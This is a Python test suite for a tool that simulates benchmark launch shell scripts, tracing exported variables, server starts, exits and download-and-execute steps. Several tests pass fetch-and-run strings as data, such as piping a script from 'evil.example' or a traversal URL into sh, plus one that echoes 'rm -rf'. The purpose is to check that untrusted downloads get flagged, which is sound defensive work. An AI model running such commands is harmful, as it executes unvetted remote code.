"""A point's launch as the sweep's job starts it (recipes.launch.point): the variables the
workflow templates export, and the fail-closed rule for a launch that starts no server."""
from __future__ import annotations

from recipes.launch.compare import NO_SERVER_MARK, opaque
from recipes.launch.fs import WORKSPACE, Files
from recipes.launch.point import Tracer, job_env
from recipes.launch.shell import Interpreter
from recipes.launch.trace import EXEC, SERVER, UNKNOWN
from recipes.launch.words import Unknown
from recipes.points import BenchmarkPoint
from recipes.source import MemorySource

POINT = BenchmarkPoint(config_key="dsr1-fp8-h200-sglang", scenario="fixed-seq-len", isl=1024, osl=1024, tp=8, conc=4,
                       image="img:1", runner="h200", framework="sglang", precision="fp8",
                       model="deepseek-ai/DeepSeek-R1", model_prefix="dsr1")
MULTI = BenchmarkPoint(config_key="dsr1-fp8-gb200-dynamo-sglang", scenario="fixed-seq-len", isl=1024, osl=1024,
                       tp=8, conc_list=[4, 8], runner="gb200", framework="dynamo-sglang", precision="fp8",
                       model="deepseek-ai/DeepSeek-R1", model_prefix="dsr1", multinode=True, disagg=True,
                       workers={"prefill": {"num-worker": 1, "tp": 4, "ep": 4, "dp-attn": True,
                                            "settings": {"CONFIG_FILE": "recipes/a.yaml"}},
                                "decode": {"num-worker": 2, "tp": 8}})

# benchmark_lib.sh's check_env_vars, as InferenceX writes it.
CHECK_ENV_VARS = """
check_env_vars() {
    local missing_vars=()
    for var_name in "$@"; do
        if [[ -z "${!var_name:-}" ]]; then
            missing_vars+=("$var_name")
        fi
    done
    if [[ ${#missing_vars[@]} -gt 0 ]]; then
        echo "missing: ${missing_vars[*]}"
        exit 1
    fi
}
"""


def run(text, env, files=None, path="launch.sh"):
    it = Interpreter(Files(MemorySource({path: text, **(files or {})})), inputs=env)
    state = it.initial_state()
    state.argv0 = f"{WORKSPACE}/{path}"
    it.run_top(text, path, state)
    return it


def execs(it):
    return [" ".join(w for w in e.argv if isinstance(w, str)) for e in it.trace.of(EXEC)]


def test_a_variable_the_template_sets_from_an_unknown_input_is_set_to_an_unknown_value():
    env = job_env(POINT, "h200-cw")
    for name in ("DURATION", "MAX_MODEL_LEN", "TOTAL_CPU_DRAM_GB", "RUN_EVAL", "EVAL_ONLY", "RECIPE_FINGERPRINT"):
        assert isinstance(env[name], Unknown), name
    assert env["RESULT_DIR"] == "/workspace/results" and env["TP"] == "8" and env["ISL"] == "1024"


def test_check_env_vars_over_a_variable_the_sweep_sets_does_not_end_the_launch():
    text = CHECK_ENV_VARS + "check_env_vars MODEL TP DURATION MAX_MODEL_LEN\nhostname\n"
    it = run(text, job_env(POINT, "h200-cw"))
    assert "hostname" in execs(it) and it.ending == (None, it.ending[1])
    # The same test over a variable nobody sets does end it: the test is decided.
    it = run(CHECK_ENV_VARS + "check_env_vars MODEL NOT_SET_BY_THE_SWEEP\nhostname\n", job_env(POINT, "h200-cw"))
    assert "hostname" not in execs(it) and it.ending[0].line == 11 and it.ending[1] == 1


def test_an_eval_test_on_run_eval_runs_both_arms():
    text = 'if [[ "${RUN_EVAL:-false}" == "true" ]]; then\n  hostname eval\nelse\n  hostname bench\nfi\n'
    assert execs(run(text, job_env(POINT, "h200-cw"))) == ["hostname eval", "hostname bench"]


def test_a_multinode_point_gets_each_roles_topology_and_no_single_node_tp():
    env = job_env(MULTI, "gb200-nv")
    assert (env["PREFILL_TP"], env["PREFILL_EP"], env["PREFILL_DP_ATTN"], env["PREFILL_NUM_WORKERS"]) == \
        ("4", "4", "true", "1")
    assert env["DECODE_TP"] == "8" and isinstance(env["DECODE_EP"], Unknown)
    assert "TP" not in env and "EP_SIZE" not in env and env["CONFIG_FILE"] == "recipes/a.yaml"
    assert env["CONC_LIST"] == "4 8" and isinstance(env["PREFILL_HARDWARE"], Unknown)


def test_a_file_test_inside_a_folder_the_launch_cloned_is_undecided():
    text = ('git clone https://github.com/NVIDIA/srt-slurm.git srt\ncd srt\n'
            'if [[ ! -f recipes/a.yaml ]]; then\n  exit 1\nfi\nhostname\n')
    it = run(text, job_env(POINT, "h200-cw"))
    assert "hostname" in execs(it)
    # Outside what the launch wrote, the repository decides: a file it lacks is absent.
    it = run('if [[ ! -f recipes/a.yaml ]]; then\n  exit 1\nfi\nhostname\n', job_env(POINT, "h200-cw"))
    assert "hostname" not in execs(it)


SERVE = "python3 -m sglang.launch_server --model-path x --port 8888\n"


def trace_of(runner):
    src = MemorySource({"runners/launch_h200-cw.sh": runner})
    return Tracer(src).trace(POINT, ["runners/launch_h200-cw.sh"]).runners["runners/launch_h200-cw.sh"]


def test_a_launch_that_exits_before_any_server_is_an_unknown_that_may_hide_code():
    trace = trace_of('hostname\nif [[ "$FRAMEWORK" == sglang ]]; then\n  exit 1\nfi\n' + SERVE)
    assert not trace.of(SERVER)
    last = trace.effects[-1]
    assert last.kind == UNKNOWN and NO_SERVER_MARK in last.detail and opaque(last)
    assert "runners/launch_h200-cw.sh:3 (exit 1)" in last.detail and str(last.site) == "runners/launch_h200-cw.sh:3"


def test_a_launch_that_runs_to_its_end_without_a_server_names_the_last_exit():
    lib = CHECK_ENV_VARS + "check_env_vars NOT_SET_BY_THE_SWEEP\n" + SERVE
    src = MemorySource({"runners/launch_h200-cw.sh": "bash benchmarks/x.sh\n", "benchmarks/x.sh": lib})
    trace = Tracer(src).trace(POINT, ["runners/launch_h200-cw.sh"]).runners["runners/launch_h200-cw.sh"]
    last = trace.effects[-1]
    assert opaque(last) and "runs to the end of runners/launch_h200-cw.sh" in last.detail
    assert "benchmarks/x.sh:11, exit 1" in last.detail


def test_a_launch_that_starts_a_server_has_no_such_unknown():
    trace = trace_of('if [[ "$DURATION" == 0 ]]; then\n  exit 1\nfi\n' + SERVE)
    assert trace.of(SERVER) and not [e for e in trace.effects if e.kind == UNKNOWN and NO_SERVER_MARK in e.detail]


def test_a_server_started_through_the_path_command_v_prints_is_that_program():
    trace = trace_of('PY="$(command -v python3)"\nCMD=("$PY" -m sglang.launch_server --port 8888)\n'
                     '"${CMD[@]}" > server.log 2>&1 &\n')
    [server] = trace.of(SERVER)
    assert server.argv[:3] == ("python3", "-m", "sglang.launch_server")
    assert not [e for e in trace.effects if e.kind == UNKNOWN]


def test_command_v_of_a_function_prints_its_name_and_of_an_odd_word_stays_unknown():
    it = run('f() { :; }\nA="$(command -v f)"\nB="$(command -v "a b")"\nhostname "$A"\n', {})
    assert execs(it) == ["hostname f"]


TEMPLATE = """env:
  RANDOM_RANGE_RATIO: 0.8
  MODEL: ${{ inputs.model }}
  DURATION: ${{ inputs.duration }}
  CONC_LIST: ${{ join(fromJson(inputs.conc-list), ' ') }}
  SCENARIO_SUBDIR: ${{ inputs.scenario-type == 'agentic-coding' && 'agentic/' || '' }}
  HF_TOKEN: ${{ secrets.HF }}
  NEW_KNOB: ${{ inputs.new-knob }}
"""


def test_the_trees_own_template_decides_what_the_job_exports():
    from recipes.launch.point import read_template

    src = MemorySource({".github/workflows/benchmark-multinode-tmpl.yml": TEMPLATE})
    env = job_env(MULTI, "gb200-nv", read_template(src, True))
    # This era's template sets SCENARIO_SUBDIR to '' for a fixed-length point, not `fixed_seq_len/`.
    assert env["SCENARIO_SUBDIR"] == "" and env["MODEL"] == "deepseek-ai/DeepSeek-R1"
    assert env["CONC_LIST"] == "4 8" and env["HF_TOKEN"] == "<secret:HF>" and env["RANDOM_RANGE_RATIO"] == "0.8"
    assert isinstance(env["DURATION"], Unknown) and isinstance(env["NEW_KNOB"], Unknown)
    # A name the latest templates set and this one does not is not exported at this tree.
    assert "RESULT_DIR" not in env and "MAX_MODEL_LEN" not in env and "PREFILL_TP" not in env
    assert env["CONFIG_FILE"] == "recipes/a.yaml"  # the arm's additional-settings stay
    assert read_template(MemorySource({}), True) is None


def test_a_trace_that_may_only_spend_part_of_the_budget_leaves_the_rest():
    from recipes.launch.point import RUN_COST, Budget

    src = MemorySource({"runners/launch_h200-cw.sh": 'echo "$IMAGE"\n' + SERVE})  # reads IMAGE: not shared
    budget = Budget(3 * RUN_COST)
    tracer = Tracer(src, budget=budget)
    first = tracer.trace(POINT, ["runners/launch_h200-cw.sh"])
    assert first is not None and RUN_COST <= budget.spent < 2 * RUN_COST
    other = POINT.model_copy(update={"config_key": "other", "image": "other-image"})
    # What is left is less than what the caller must leave: not traced, nothing spent ...
    assert tracer.trace(other, ["runners/launch_h200-cw.sh"], leave=2 * RUN_COST) is None
    spent = budget.spent
    # ... and a made trace is shared whatever the caller leaves; the review's own use spends the rest.
    assert tracer.trace(POINT, ["runners/launch_h200-cw.sh"], leave=3 * RUN_COST) is not None
    assert tracer.trace(other, ["runners/launch_h200-cw.sh"]) is not None and budget.spent > spent


# A download run as shell code names its URL in the unknown effect (`Effect.download`), and one
# rule (recipes.launch.compare.hides_code) excuses a trusted installer's, for Check 10 and the
# affected rule alike.
UV = "https://astral.sh/uv/install.sh"


def _unknowns(text):
    return [e for e in run(text, {}).trace.effects if e.kind == UNKNOWN]


def test_a_download_run_as_shell_code_says_what_was_downloaded():
    from recipes.launch.compare import hides_code

    for text in (f"curl -LsSf {UV} | sh\n", f"curl -LsSf {UV} |\n    UV_INSTALL_DIR=/opt/uv sh\n",
                 f'eval "$(curl -LsSf {UV})"\n'):
        (e,) = _unknowns(text)
        assert opaque(e) and e.download == UV, (text, e)
        assert not hides_code(e, ["https://astral.sh/uv/"]) and hides_code(e, []) and hides_code(e)
    # Code that is more than the one download is not the installer's alone.
    (e,) = _unknowns(f"( curl -LsSf {UV}; echo rm -rf /x ) | sh\n")
    assert e.download == "" and hides_code(e, ["https://astral.sh/uv/"])


def test_only_a_url_under_a_trusted_prefix_is_trusted():
    from recipes.launch.compare import hides_code

    trusted = ["https://astral.sh/uv/"]
    for url in ("https://evil.example/uv/install.sh", "https://astral.sh/uv/../evil.sh", "https://astral.sh/uv/%2E%2E/x",
                "http://astral.sh/uv/install.sh"):
        (e,) = _unknowns(f"curl -LsSf {url} | sh\n")
        assert e.download == url and hides_code(e, trusted), url


def test_a_point_looked_up_again_gets_its_trace_without_building_its_job_again(monkeypatch):
    import recipes.launch.point as point

    built = []
    real = point.job_env
    monkeypatch.setattr(point, "job_env", lambda *a, **k: built.append(a[0]) or real(*a, **k))
    tracer = Tracer(MemorySource({"runners/launch_h200-cw.sh": 'echo "$IMAGE"\n' + SERVE}))
    first = tracer.trace(POINT, ["runners/launch_h200-cw.sh"])
    again = tracer.trace(POINT, ["runners/launch_h200-cw.sh"])
    assert again.runners == first.runners and built == [POINT]
    # Another run of the point (other inputs) is another lookup.
    tracer.trace(POINT, ["runners/launch_h200-cw.sh"], inputs={"EVAL_ONLY": "true"})
    assert built == [POINT, POINT]


def test_a_point_the_budget_left_untraced_shares_a_trace_made_since():
    from recipes.launch.point import RUN_COST, Budget

    src = MemorySource({"runners/launch_h200-cw.sh": 'echo "$IMAGE"\n' + SERVE})
    budget = Budget(2 * RUN_COST)
    tracer = Tracer(src, budget=budget)
    same_values = POINT.model_copy(update={"config_key": "same-image"})
    assert tracer.trace(same_values, ["runners/launch_h200-cw.sh"], leave=2 * RUN_COST) is None
    made = tracer.trace(POINT, ["runners/launch_h200-cw.sh"])
    # Still too little budget to make one, but the trace POINT made reads only what they share.
    shared = tracer.trace(same_values, ["runners/launch_h200-cw.sh"], leave=2 * RUN_COST)
    assert shared is not None and shared.runners == made.runners


def test_an_effects_comparison_key_is_kept_on_it_and_is_not_part_of_its_equality():
    from recipes.launch.compare import _key, compare
    from recipes.launch.trace import Effect, Site

    a = Effect(kind=EXEC, site=Site("a.sh", 3), argv=("vllm", Unknown("x at a.sh:3")))
    b = Effect(kind=EXEC, site=Site("a.sh", 9), argv=("vllm", Unknown("x at a.sh:9")))
    assert compare([a], [b]) is None  # lines never count
    assert _key(a) is _key(a) and a.__dict__["_compare_key"] == _key(b)
    fresh = Effect(kind=EXEC, site=Site("a.sh", 3), argv=("vllm", Unknown("x at a.sh:3")))
    assert fresh == a and hash(fresh) == hash(a) and "_compare_key" not in repr(a)
